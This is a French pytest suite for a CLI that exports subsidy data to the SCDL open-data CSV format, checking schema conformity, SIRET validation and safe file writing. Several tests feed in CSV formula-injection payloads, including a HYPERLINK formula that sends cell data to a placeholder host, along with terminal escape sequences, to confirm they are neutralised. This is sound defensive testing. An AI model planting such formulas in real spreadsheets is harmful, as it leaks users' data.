"""``cdv-regles exporter scdl`` : l'export open data SCDL Subventions 2.1.1.

Le CSV produit est validé contre le schéma officiel (copie versionnée dans regles/referentiels/)
avec frictionless, puis
contre les règles personnalisées du schéma que frictionless ignore (« custom_checks » de
Validata) : clé de Luhn des SIRET d'attribuant et de bénéficiaire, au moins un SIRET ou un RNA.
Les classeurs sont fabriqués avec openpyxl, en-têtes tirés de regles/colonnes.yaml.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from cdv_regles.cli import cdv_regles
from cdv_regles.erreurs import ErreurCdv

openpyxl = pytest.importorskip("openpyxl")

DEPOT = Path(__file__).resolve().parents[1]
# Copie du schéma officiel (../shared/data) versionnée avec les référentiels.
SCHEMA = DEPOT / "regles" / "referentiels" / "scdl-subventions-2.1.1-schema.json"
EXEMPLE = DEPOT / "classeurs" / "exemple-programmation-2023.xlsx"
# Financeurs dont attribuants.yaml donne déjà un SIRET vérifié (les autres sont « à compléter »).
COMPLETS = ("etat", "departement-nord", "region-hdf")
SIRET_ANCT, SIRET_DEPARTEMENT, SIRET_REGION = "13002603200016", "22590001801244", "20005374200017"

# SIRET et RNA de bénéficiaires fictifs (clé de Luhn valide).
SIRET_ASSO, SIRET_COMMUNE = "44306184100047", "21590606600018"
# SIRET d'attribuants FICTIFS pour les tests (SIREN 999 999 999, qu'aucun organisme ne porte ;
# clé de Luhn valide) : les vrais SIRET de ces financeurs ne sont pas connus ici.
SIRET_FICTIFS = {"valenciennes-metropole": "99999999900017", "caf-nord": "99999999900025",
                 "ars-hdf": "99999999900033", "cpam-hainaut": "99999999900041"}


# --- outils --------------------------------------------------------------------------------

def colonnes_contrat() -> list[dict[str, Any]]:
    donnees = yaml.safe_load((DEPOT / "regles" / "colonnes.yaml").read_text(encoding="utf-8"))
    return [c for g in donnees["groupes"] for c in g["colonnes"]]


def dossier(**valeurs: Any) -> dict[str, Any]:
    """Un dossier validé en comité, financé par l'État et la Région, que l'on ajuste au besoin."""
    base = {
        "numero_dossier": "CV23-001", "porteur": "Association Les Amis du Faubourg",
        "type_porteur": "Association", "siret": "443 061 841 00047", "rna": "W595000001",
        "intitule": "Ateliers de français langue étrangère", "action_reconduite": "Non",
        "echelle": "Communale", "communes": "Valenciennes", "orientation": "4",
        "dispositif": "Droit commun", "date_note_intention": dt.date(2022, 9, 1),
        "date_debut": dt.date(2023, 1, 2), "date_fin": dt.date(2023, 12, 29),
        "cout_total": 40000, "montant_etat": 12000, "montant_region": 4500.5,
        "statut": "Validé en comité",
    }
    base.update(valeurs)
    return base


def classeur(chemin: Path, dossiers: list[dict[str, Any]], colonnes_en_plus: tuple[str, ...] = ()) -> Path:
    """Feuille « Programmation » : en-têtes du contrat (plus d'éventuels en-têtes), un dossier par ligne.

    Un texte qui commence par « = » est enregistré comme texte, pas comme formule : c'est ce que
    donne une saisie « '=... » dans Excel ou un collage de texte.
    """
    cols = colonnes_contrat()
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Programmation"
    ws.append([c["entete"] for c in cols] + list(colonnes_en_plus))
    for d in dossiers:
        ws.append([d.get(c["id"]) for c in cols] + [d.get(e) for e in colonnes_en_plus])
    for ligne in ws.iter_rows(min_row=2):
        for cellule in ligne:
            if isinstance(cellule.value, str) and cellule.value.startswith("="):
                cellule.data_type = "s"
    wb.save(chemin)
    return chemin


def exporter(*arguments: str | Path) -> Any:
    # Le millésime est nommé : sans lui, la date du jour le choisirait (et aucun ne couvre 2026).
    millesime = [] if "--millesime" in arguments else ["--millesime", "2023"]
    return CliRunner().invoke(cdv_regles, ["exporter", "scdl", *map(str, arguments), *millesime])


def lire(chemin: Path) -> list[dict[str, str]]:
    with open(chemin, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def erreurs_schema(chemin: Path) -> list[list[Any]]:
    """Les erreurs que frictionless trouve en validant le CSV contre le schéma officiel."""
    frictionless = pytest.importorskip(
        "frictionless", reason="frictionless (dépendance de test, groupe dev) valide l'export contre le schéma")
    schema = frictionless.Schema.from_descriptor(json.loads(SCHEMA.read_text(encoding="utf-8")))
    rapport = frictionless.Resource(path=chemin.name, basepath=str(chemin.parent), schema=schema).validate()
    return rapport.flatten(["rowNumber", "fieldName", "type", "note"])


def luhn(chiffres: str) -> bool:
    """Clé de Luhn, écrite ici indépendamment du code testé (cdv_regles.valeurs)."""
    somme = 0
    for rang, c in enumerate(reversed(chiffres)):
        n = int(c) * (2 if rang % 2 else 1)
        somme += n - 9 if n > 9 else n
    return somme % 10 == 0


def siret_conforme(s: str) -> bool:
    """Règle « french-siret-value » du schéma : 14 chiffres, Luhn (La Poste : somme multiple de 5)."""
    if not re.fullmatch(r"\d{14}", s):
        return False
    return luhn(s) or (s.startswith("356000000") and sum(map(int, s)) % 5 == 0)


def verifier_regles_personnalisees(lignes: list[dict[str, str]]) -> None:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    for regle in schema["custom_checks"]:
        p = regle["params"]
        for n, ligne in enumerate(lignes, start=2):
            if regle["name"] == "french-siret-value" and ligne[p["column"]]:
                assert siret_conforme(ligne[p["column"]]), (n, p["column"], ligne[p["column"]])
            elif regle["name"] == "one-of-required":
                assert ligne[p["column1"]] or ligne[p["column2"]], (n, ligne)
            else:
                assert regle["name"] in ("french-siret-value", "one-of-required"), regle


@pytest.fixture
def deux_dossiers(tmp_path: Path) -> Path:
    return classeur(tmp_path / "programmation.xlsx", [
        dossier(),
        dossier(numero_dossier="CV23-002", porteur="Ville de Fresnes-sur-Escaut", type_porteur="Commune",
                siret=SIRET_COMMUNE, rna=None, intitule="Chef de projet politique de la ville",
                montant_etat=15000, montant_region=None, montant_departement=6000,
                date_debut=dt.date(2023, 6, 21), date_fin=dt.date(2023, 6, 21)),
        dossier(numero_dossier="CV23-003", statut="En instruction", montant_etat=5000),
    ])


# --- conformité au schéma officiel ---------------------------------------------------------

def test_export_valide_contre_le_schema_officiel(deux_dossiers: Path, tmp_path: Path) -> None:
    sortie = tmp_path / "subventions.csv"
    r = exporter(deux_dossiers, "--sortie", sortie, "--date-convention", "2023-04-15",
                 *[a for f in COMPLETS for a in ("--financeur", f)])
    assert r.exit_code == 0, r.output
    assert erreurs_schema(sortie) == []
    lignes = lire(sortie)
    verifier_regles_personnalisees(lignes)
    champs = [f["name"] for f in json.loads(SCHEMA.read_text(encoding="utf-8"))["fields"]]
    assert list(lignes[0]) == champs
    # Une ligne par dossier retenu et par financeur au montant positif, dans l'ordre du tableau.
    assert [(x["referenceDecision"], x["idAttribuant"], x["montant"]) for x in lignes] == [
        ("CV23-001", SIRET_ANCT, "12000.00"), ("CV23-001", SIRET_REGION, "4500.50"),
        ("CV23-002", SIRET_ANCT, "15000.00"), ("CV23-002", SIRET_DEPARTEMENT, "6000.00")]
    premiere, commune = lignes[0], lignes[2]
    assert premiere["idBeneficiaire"] == SIRET_ASSO  # espaces de présentation ôtés
    assert premiere["rnaBeneficiaire"] == "W595000001"
    assert premiere["dateConvention"] == "2023-04-15"
    assert premiere["datesPeriodeVersement"] == "2023-01-02/2023-12-29"
    assert commune["datesPeriodeVersement"] == "2023-06-21"  # action d'un jour : une seule date
    assert commune["rnaBeneficiaire"] == ""
    assert {x["nature"] for x in lignes} == {"aide en numéraire"}
    assert {x["notificationUE"] for x in lignes} == {"non"}
    assert {x["pourcentageSubvention"] for x in lignes} == {"1.00"}
    assert "écrite(s) dans" in r.output


def test_le_csv_est_en_utf8_sans_bom_separe_par_des_virgules(deux_dossiers: Path, tmp_path: Path) -> None:
    sortie = tmp_path / "subventions.csv"
    r = exporter(deux_dossiers, "--sortie", sortie, "--date-convention", "2023-04-15", "--financeur", "etat")
    assert r.exit_code == 0, r.output
    brut = sortie.read_bytes()
    assert brut.startswith(b"nomAttribuant,idAttribuant,dateConvention,")
    assert "Agence nationale de la cohésion des territoires".encode() in brut


def test_un_beneficiaire_sans_siret_avec_rna_reste_conforme(tmp_path: Path) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier(siret=None, rna="w595000001")])
    sortie = tmp_path / "s.csv"
    r = exporter(entree, "--sortie", sortie, "--date-convention", "2023-04-15", "--financeur", "etat")
    assert r.exit_code == 0, r.output
    assert erreurs_schema(sortie) == []
    [ligne] = lire(sortie)
    assert (ligne["idBeneficiaire"], ligne["rnaBeneficiaire"]) == ("", "W595000001")
    verifier_regles_personnalisees([ligne])


@pytest.mark.parametrize(("valeurs", "attendu"), [
    ({"siret": "443 061 841 00048"}, "SIRET invalide"),
    ({"siret": None, "rna": None}, "ni SIRET ni RNA"),
    ({"rna": "595000001"}, "RNA invalide"),
    ({"intitule": "x" * 257}, "intitulé trop long"),
    ({"porteur": None}, "Porteur vide"),
    ({"date_fin": dt.date(2022, 12, 1)}, "date de fin de l'action avant sa date de début"),
    ({"date_debut": None}, "« Date de début de l'action » vide"),
])
def test_une_donnee_qui_violerait_le_schema_arrete_l_export(tmp_path: Path, valeurs: dict, attendu: str) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier(), dossier(numero_dossier="CV23-009", **valeurs)])
    sortie = tmp_path / "s.csv"
    r = exporter(entree, "--sortie", sortie, "--date-convention", "2023-04-15", "--financeur", "etat")
    assert r.exit_code == 2
    assert attendu in r.output
    assert "CV23-009 (ligne 3)" in r.output and "CV23-001" not in r.output
    assert "Traceback" not in r.output
    assert not sortie.exists()


def test_un_montant_illisible_arrete_l_export_avec_sa_cellule(tmp_path: Path) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier(montant_etat="douze mille")])
    r = exporter(entree, "--sortie", tmp_path / "s.csv", "--date-convention", "2023-04-15")
    assert r.exit_code == 2
    assert "montant illisible dans « Montant sollicité État (politique de la ville) »" in r.output
    colonne = [c["id"] for c in colonnes_contrat()].index("montant_etat")
    assert f"{openpyxl.utils.get_column_letter(colonne + 1)}2" in r.output


# --- neutralisation des formules -----------------------------------------------------------

def test_un_intitule_formule_ressort_inoffensif(tmp_path: Path) -> None:
    formule = '=HYPERLINK("http://exemple.invalid/?v="&A1,"Cliquez ici")'
    entree = classeur(tmp_path / "p.xlsx", [dossier(intitule=formule, porteur="@SOMME(A1:A9)",
                                                    numero_dossier="+33-CV23")])
    sortie = tmp_path / "s.csv"
    r = exporter(entree, "--sortie", sortie, "--date-convention", "2023-04-15", "--financeur", "etat",
                 "--financeur", "region-hdf")
    assert r.exit_code == 0, r.output
    lignes = lire(sortie)
    assert lignes[0]["objet"] == "'" + formule
    assert lignes[0]["nomBeneficiaire"] == "'@SOMME(A1:A9)"
    assert lignes[0]["referenceDecision"] == "'+33-CV23"
    # Aucune cellule ne commence comme une formule ; les nombres ne sont pas touchés.
    for ligne in lignes:
        for valeur in ligne.values():
            assert not valeur or valeur[0] not in "=+-@\t\r", valeur
    assert [x["montant"] for x in lignes] == ["12000.00", "4500.50"]
    assert erreurs_schema(sortie) == []


def test_la_neutralisation_ne_touche_que_les_debuts_de_formule() -> None:
    from cdv_regles.export.tableur import en_csv, neutraliser

    assert neutraliser("-5") == "'-5"
    assert neutraliser("＝1+1") == "'＝1+1"  # signe égal pleine chasse
    assert neutraliser("\t=1") == "'\t=1"
    assert neutraliser("Atelier = emploi") == "Atelier = emploi"
    assert neutraliser("12000.00") == "12000.00"
    assert neutraliser("") == ""
    texte = en_csv(["a", "b"], [{"a": "=1+1", "b": "ligne\nsuite"}]).decode("utf-8")
    assert list(csv.reader(io.StringIO(texte))) == [["a", "b"], ["'=1+1", "ligne\nsuite"]]


def test_un_intitule_de_256_caracteres_qui_commence_par_egal_depasse_la_limite(tmp_path: Path) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier(intitule="=" + "x" * 255)])
    r = exporter(entree, "--sortie", tmp_path / "s.csv", "--date-convention", "2023-04-15", "--financeur", "etat")
    assert r.exit_code == 2
    assert "intitulé trop long" in r.output


# --- filtres --------------------------------------------------------------------------------

def test_filtre_financeur(deux_dossiers: Path, tmp_path: Path) -> None:
    sortie = tmp_path / "s.csv"
    r = exporter(deux_dossiers, "--sortie", sortie, "--date-convention", "2023-04-15", "--financeur", "REGION")
    assert r.exit_code == 0, r.output
    assert [(x["nomAttribuant"], x["referenceDecision"]) for x in lire(sortie)] == [
        ("Région Hauts-de-France", "CV23-001")]


def test_financeur_inconnu(deux_dossiers: Path, tmp_path: Path) -> None:
    r = exporter(deux_dossiers, "--sortie", tmp_path / "s.csv", "--date-convention", "2023-04-15",
                 "--financeur", "communes")
    assert r.exit_code == 2
    assert "financeur inconnu : communes" in r.output
    assert "cpam-hainaut (CPAM du Hainaut)" in r.output


def test_par_defaut_seuls_les_dossiers_valides_en_comite(deux_dossiers: Path, tmp_path: Path) -> None:
    sortie = tmp_path / "s.csv"
    assert exporter(deux_dossiers, "--sortie", sortie, "--date-convention", "2023-04-15",
                    "--financeur", "etat").exit_code == 0
    assert [x["referenceDecision"] for x in lire(sortie)] == ["CV23-001", "CV23-002"]


def test_filtre_statut(deux_dossiers: Path, tmp_path: Path) -> None:
    sortie = tmp_path / "s.csv"
    r = exporter(deux_dossiers, "--sortie", sortie, "--date-convention", "2023-04-15", "--financeur", "etat",
                 "--statut", "en instruction")
    assert r.exit_code == 0, r.output
    assert [x["referenceDecision"] for x in lire(sortie)] == ["CV23-003"]
    r = exporter(deux_dossiers, "--sortie", sortie, "--financeur", "etat", "--statut", "Voté")
    assert r.exit_code == 2
    assert "statut inconnu : « Voté »" in r.output and "« Validé en comité »" in r.output


def test_aucune_subvention_a_exporter(deux_dossiers: Path, tmp_path: Path) -> None:
    r = exporter(deux_dossiers, "--sortie", tmp_path / "s.csv", "--date-convention", "2023-04-15",
                 "--statut", "Refusé")
    assert r.exit_code == 2
    assert "aucune subvention à exporter" in r.output
    assert "« En instruction »" in r.output  # statuts présents, pour choisir --statut


def test_la_colonne_communes_n_est_pas_exportee(tmp_path: Path) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier(montant_communes=3000)])
    sortie = tmp_path / "s.csv"
    assert exporter(entree, "--sortie", sortie, "--date-convention", "2023-04-15",
                    *[a for f in COMPLETS for a in ("--financeur", f)]).exit_code == 0
    assert [x["montant"] for x in lire(sortie)] == ["12000.00", "4500.50"]


# --- date de la convention -----------------------------------------------------------------

def test_date_de_convention_manquante(deux_dossiers: Path, tmp_path: Path) -> None:
    sortie = tmp_path / "s.csv"
    r = exporter(deux_dossiers, "--sortie", sortie, "--financeur", "etat")
    assert r.exit_code == 2
    assert "date de la convention manquante" in r.output
    assert "CV23-001 (ligne 2); CV23-002 (ligne 3)" in r.output
    assert "--date-convention AAAA-MM-JJ" in r.output
    assert not sortie.exists()


def test_date_de_convention_mal_ecrite(deux_dossiers: Path, tmp_path: Path) -> None:
    r = exporter(deux_dossiers, "--sortie", tmp_path / "s.csv", "--date-convention", "15/04/2023")
    assert r.exit_code == 2
    assert "n'est pas une date AAAA-MM-JJ" in r.output


def test_une_colonne_date_de_la_convention_l_emporte_sur_l_option(tmp_path: Path) -> None:
    """La colonne facultative « Date de la convention » du contrat prime, dossier par dossier."""
    from cdv_regles.conversion import convertir
    from cdv_regles.export.attribuants import financeurs
    from cdv_regles.export.scdl import Selection, lignes_scdl
    from cdv_regles.lecture import lire_table
    from cdv_regles.verification import preparer

    _, catalogue = preparer(2023)
    entree = classeur(tmp_path / "p.xlsx", [
        dossier(date_convention=dt.date(2023, 5, 2)),
        dossier(numero_dossier="CV23-002")])
    tableau = convertir(lire_table(entree), catalogue.colonnes, catalogue.referentiels)
    lignes = lignes_scdl(tableau, financeurs(catalogue, ("etat",)),
                         Selection(date_convention=dt.date(2023, 4, 15)))
    assert [x["dateConvention"] for x in lignes] == ["2023-05-02", "2023-04-15"]


# --- attribuants ---------------------------------------------------------------------------

def test_chaque_financeur_a_un_attribuant_et_les_siret_renseignes_sont_valides() -> None:
    from cdv_regles.export.attribuants import financeurs
    from cdv_regles.verification import preparer

    _, catalogue = preparer(2023)
    tous = financeurs(catalogue)
    assert [f.code for f in tous] == ["etat", "valenciennes-metropole", "departement-nord", "region-hdf",
                                      "caf-nord", "ars-hdf", "cpam-hainaut"]
    assert all(f.nom for f in tous)
    assert all(siret_conforme(f.siret) for f in tous if f.siret)
    assert {f.code for f in tous if f.siret} >= set(COMPLETS)
    cavm = next(f for f in tous if f.cle == "cavm")
    assert cavm.colonnes == ("montant_cavm", "bonus_egalite")


def test_le_bonus_egalite_s_ajoute_a_valenciennes_metropole(tmp_path: Path) -> None:
    from cdv_regles.conversion import convertir
    from cdv_regles.export.attribuants import financeurs
    from cdv_regles.export.scdl import Selection, lignes_scdl
    from cdv_regles.lecture import lire_table
    from cdv_regles.verification import preparer

    _, catalogue = preparer(2023)
    entree = classeur(tmp_path / "p.xlsx", [dossier(montant_cavm=8000, bonus_egalite=1500.25),
                                            dossier(numero_dossier="CV23-002", montant_cavm=None,
                                                    bonus_egalite=700)])
    tableau = convertir(lire_table(entree), catalogue.colonnes, catalogue.referentiels)
    # SIRET fictif (clé de Luhn valide) : seul le calcul du montant est en jeu ici.
    cavm = [dataclasses.replace(f, siret=SIRET_COMMUNE) for f in financeurs(catalogue, ("cavm",))]
    lignes = lignes_scdl(tableau, cavm, Selection(date_convention=dt.date(2023, 4, 15)))
    assert [(x["referenceDecision"], x["montant"]) for x in lignes] == [("CV23-001", "9500.25"),
                                                                          ("CV23-002", "700.00")]


def test_un_attribuant_sans_siret_arrete_l_export_et_dit_quoi_completer(tmp_path: Path) -> None:
    from cdv_regles.conversion import convertir
    from cdv_regles.export.attribuants import financeurs
    from cdv_regles.export.scdl import Selection, lignes_scdl
    from cdv_regles.lecture import lire_table
    from cdv_regles.verification import preparer

    _, catalogue = preparer(2023)
    entree = classeur(tmp_path / "p.xlsx", [dossier()])
    tableau = convertir(lire_table(entree), catalogue.colonnes, catalogue.referentiels)
    region = [dataclasses.replace(f, siret=None) for f in financeurs(catalogue, ("region-hdf",))]
    reglages = tmp_path / "cdv-regles.toml"
    with pytest.raises(ErreurCdv) as e:
        lignes_scdl(tableau, region, Selection(date_convention=dt.date(2023, 4, 15), reglages=reglages))
    assert e.value.code_sortie == 2
    assert "SIRET de l'attribuant « Région Hauts-de-France » non renseigné" in e.value.message
    assert f"Écrivez-le dans {reglages}" in e.value.message
    assert 'section [attribuants] puis la ligne region-hdf = "SIRET à 14 chiffres"' in e.value.message
    assert "CV23-001 (ligne 2)" in e.value.message


# --- le fichier de réglages à côté du tableau : le SIRET de chaque attribuant ---------------

def reglages(dossier: Path, texte: str) -> Path:
    chemin = dossier / "cdv-regles.toml"
    chemin.write_text(texte, encoding="utf-8")
    return chemin


def test_le_siret_manquant_nomme_le_fichier_de_reglages_du_tableau(tmp_path: Path) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier(montant_cavm=8000)])
    r = exporter(entree, "--sortie", tmp_path / "s.csv", "--date-convention", "2023-04-15")
    assert r.exit_code == 2
    assert "SIRET de l'attribuant « Valenciennes Métropole » non renseigné" in r.output
    assert f"Écrivez-le dans {tmp_path / 'cdv-regles.toml'}" in r.output
    assert 'valenciennes-metropole = "SIRET à 14 chiffres"' in r.output
    assert not (tmp_path / "s.csv").exists()


def test_le_siret_ecrit_a_cote_du_tableau_est_publie(tmp_path: Path) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier(montant_cavm=8000, bonus_egalite=500)])
    # Par code ou par clé courte, espaces de présentation admis ; SIRET fictif (voir SIRET_FICTIFS).
    reglages(tmp_path, '[attribuants]\ncavm = "999 999 999 00017"\n')
    sortie = tmp_path / "s.csv"
    r = exporter(entree, "--sortie", sortie, "--date-convention", "2023-04-15")
    assert r.exit_code == 0, r.output
    lignes = lire(sortie)
    assert [(x["nomAttribuant"], x["idAttribuant"], x["montant"]) for x in lignes] == [
        ("Agence nationale de la cohésion des territoires", SIRET_ANCT, "12000.00"),
        ("Communauté d'agglomération Valenciennes Métropole", "99999999900017", "8500.00"),
        ("Région Hauts-de-France", SIRET_REGION, "4500.50")]
    assert erreurs_schema(sortie) == []


@pytest.mark.parametrize(("texte", "attendu"), [
    ('[attribuants]\ncaf-nord = "99999999900026"\n', "le SIRET de « caf-nord » est invalide : « 99999999900026 »"),
    ("[attribuants]\ncaf-nord = 99999999900025\n", "doit être écrit entre guillemets"),
    ('[attribuants]\ncommunes = "99999999900025"\n', "« communes » n'est pas un financeur connu"),
    ('[attribuants]\ncaf = "99999999900025"\ncaf-nord = "99999999900033"\n', "reçoit deux SIRET différents"),
    ('[attribuants\ncaf = "99999999900025"\n', "est mal écrit"),
    ('attribuants = "caf"\n', "doit être une section [attribuants]"),
])
def test_un_fichier_de_reglages_fautif_est_refuse_avec_son_chemin(tmp_path: Path, texte: str, attendu: str) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier()])
    chemin = reglages(tmp_path, texte)
    r = exporter(entree, "--sortie", tmp_path / "s.csv", "--date-convention", "2023-04-15", "--financeur", "etat")
    assert r.exit_code == 2, r.output
    assert str(chemin) in r.output and attendu in r.output
    assert "Traceback" not in r.output
    assert not (tmp_path / "s.csv").exists()


def test_un_fichier_de_reglages_qui_n_est_pas_en_utf8(tmp_path: Path) -> None:
    entree = classeur(tmp_path / "p.xlsx", [dossier()])
    (tmp_path / "cdv-regles.toml").write_bytes("# réglages\n[attribuants]\n".encode("cp1252"))
    r = exporter(entree, "--sortie", tmp_path / "s.csv", "--date-convention", "2023-04-15", "--financeur", "etat")
    assert r.exit_code == 2
    assert "n'est pas un texte UTF-8" in r.output


# --- écriture -------------------------------------------------------------------------------

def test_jamais_par_dessus_le_fichier_source(deux_dossiers: Path) -> None:
    avant = deux_dossiers.read_bytes()
    r = exporter(deux_dossiers, "--sortie", deux_dossiers, "--date-convention", "2023-04-15")
    assert r.exit_code == 2
    assert deux_dossiers.read_bytes() == avant


def test_une_sortie_au_nom_de_classeur_est_refusee(deux_dossiers: Path, tmp_path: Path) -> None:
    autre = tmp_path / "programmation-2023.xlsm"
    autre.write_bytes(b"classeur de quelqu'un")
    r = exporter(deux_dossiers, "--sortie", autre, "--date-convention", "2023-04-15", "--financeur", "etat")
    assert r.exit_code == 2
    assert "choisissez un nom en .csv" in r.output
    assert autre.read_bytes() == b"classeur de quelqu'un"


def test_un_export_refuse_laisse_l_ancien_csv_intact(deux_dossiers: Path, tmp_path: Path) -> None:
    sortie = tmp_path / "s.csv"
    sortie.write_text("export précédent\n", encoding="utf-8")
    r = exporter(deux_dossiers, "--sortie", sortie, "--financeur", "etat")  # sans date de convention
    assert r.exit_code == 2
    assert sortie.read_text(encoding="utf-8") == "export précédent\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".s.csv")] == []


# --- le classeur exemple, de bout en bout --------------------------------------------------

pas_d_exemple = pytest.mark.skipif(not EXEMPLE.exists(), reason=f"{EXEMPLE.name} pas encore livré")


def exemple_apres_comite(dossier: Path) -> Path:
    """Le classeur exemple tel qu'il sera après le comité : ses dossiers « En instruction » sans défaut
    délibéré passent « Validé en comité » (l'exemple versionné est à la veille des comités, où aucun
    ne peut l'être). Construit par le générateur de l'exemple, comme l'exemple lui-même."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("generer_exemple", DEPOT / "outils" / "generer_exemple.py")
    gen = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(gen)
    colonnes = gen.colonnes_du_contrat()
    dossiers, masquees = gen.lire_dossiers(colonnes=colonnes)
    attendus = gen.lire_attendus()
    en_defaut = {a["dossier"] for a in attendus if a.get("gravite") in ("bloquant", "alerte")}
    valides = 0
    for d in dossiers:
        if d.get("statut") == "En instruction" and d["numero_dossier"] not in en_defaut:
            d["statut"] = "Validé en comité"
            valides += 1
    assert valides >= 10
    chemin = dossier / "programmation-2023.xlsx"
    chemin.write_bytes(gen.octets_classeur(gen.construire_classeur(colonnes, dossiers, masquees, attendus)))
    return chemin


@pas_d_exemple
def test_exemple_exporte_pour_les_financeurs_completes(tmp_path: Path) -> None:
    sortie = tmp_path / "x.csv"
    r = exporter(exemple_apres_comite(tmp_path), "--sortie", sortie, "--date-convention", "2023-04-15",
                 *[a for f in COMPLETS for a in ("--financeur", f)])
    assert r.exit_code == 0, r.output
    assert erreurs_schema(sortie) == []
    lignes = lire(sortie)
    assert lignes
    verifier_regles_personnalisees(lignes)


@pas_d_exemple
def test_exemple_de_bout_en_bout(tmp_path: Path) -> None:
    """Tout l'exemple, tous les financeurs : les SIRET inconnus des paramètres sont écrits (fictifs)
    dans cdv-regles.toml à côté du tableau ; frictionless ne trouve aucune erreur."""
    from cdv_regles.export.attribuants import financeurs
    from cdv_regles.verification import preparer

    tableau = exemple_apres_comite(tmp_path)
    sans_siret = {f.code for f in financeurs(preparer(2023)[1]) if not f.siret}
    assert sans_siret <= set(SIRET_FICTIFS)
    reglages(tmp_path, "[attribuants]\n" + "".join(f'{c} = "{SIRET_FICTIFS[c]}"\n' for c in sorted(sans_siret)))
    sortie = tmp_path / "x.csv"
    r = exporter(tableau, "--sortie", sortie, "--date-convention", "2023-04-15")
    assert r.exit_code == 0, r.output
    assert erreurs_schema(sortie) == []
    lignes = lire(sortie)
    verifier_regles_personnalisees(lignes)
    # Chaque financeur du Contrat de Ville sollicité par un dossier validé a ses lignes, sous son SIRET.
    attribuants = {x["nomAttribuant"]: x["idAttribuant"] for x in lignes}
    assert attribuants["Communauté d'agglomération Valenciennes Métropole"] == SIRET_FICTIFS["valenciennes-metropole"]
    assert attribuants["Caisse d'allocations familiales du Nord"] == SIRET_FICTIFS["caf-nord"]
    assert attribuants["Agence nationale de la cohésion des territoires"] == SIRET_ANCT
    assert len(attribuants) >= 5


def commande_du_readme() -> list[str]:
    """La commande « exporter scdl » du README, telle qu'écrite."""
    readme = (DEPOT / "README.md").read_text(encoding="utf-8")
    (ligne,) = [x for x in readme.splitlines() if x.startswith("uv run cdv-regles exporter scdl ")]
    return shlex.split(ligne.split("#")[0])[3:]


@pas_d_exemple
def test_la_commande_du_readme_marche_telle_quelle(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    argv = commande_du_readme()
    # Lancée depuis la racine du dépôt ; seule la sortie est détournée, pour ne rien laisser dans le dépôt.
    i = argv.index("--sortie")
    assert argv[i + 1].startswith("sorties/"), "la sortie du README va dans sorties/ (ignoré par git)"
    argv[i + 1] = str(tmp_path / Path(argv[i + 1]).name)
    monkeypatch.chdir(DEPOT)
    r = CliRunner().invoke(cdv_regles, argv)
    assert r.exit_code == 0, r.output
    assert erreurs_schema(Path(argv[i + 1])) == []


def test_cellules_hostiles_et_siret_a_points(tmp_path: Path) -> None:
    """Caractères de contrôle montrés (« ␛ »), jamais écrits bruts dans le CSV publié ; SIRET tapé
    avec des points publié en 14 chiffres (14.6, 11.3)."""
    import csv as _csv

    cols = colonnes_contrat()
    d = dossier(intitule="Atelier\x1b[2J\r\n=FAUX", porteur="Asso\x07", siret="443.061.841.00047",
                cout_total="40\u202f000 €")
    entree = tmp_path / "p.csv"
    with entree.open("w", encoding="utf-8", newline="") as f:
        ecrire = _csv.writer(f, delimiter=";")
        ecrire.writerow([c["entete"] for c in cols])
        ecrire.writerow([d.get(c["id"]).strftime("%d/%m/%Y") if isinstance(d.get(c["id"]), dt.date)
                         else d.get(c["id"]) for c in cols])
    sortie = tmp_path / "s.csv"
    r = exporter(entree, "--sortie", sortie, "--date-convention", "2023-04-15", "--financeur", "etat")
    assert r.exit_code == 0, r.output
    brut = sortie.read_bytes().decode("utf-8")
    assert not re.search("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f]", brut)
    ligne = lire(sortie)[0]
    assert ligne["objet"] == "Atelier␛[2J =FAUX"
    assert ligne["nomBeneficiaire"] == "Asso␇"
    assert ligne["idBeneficiaire"] == SIRET_ASSO
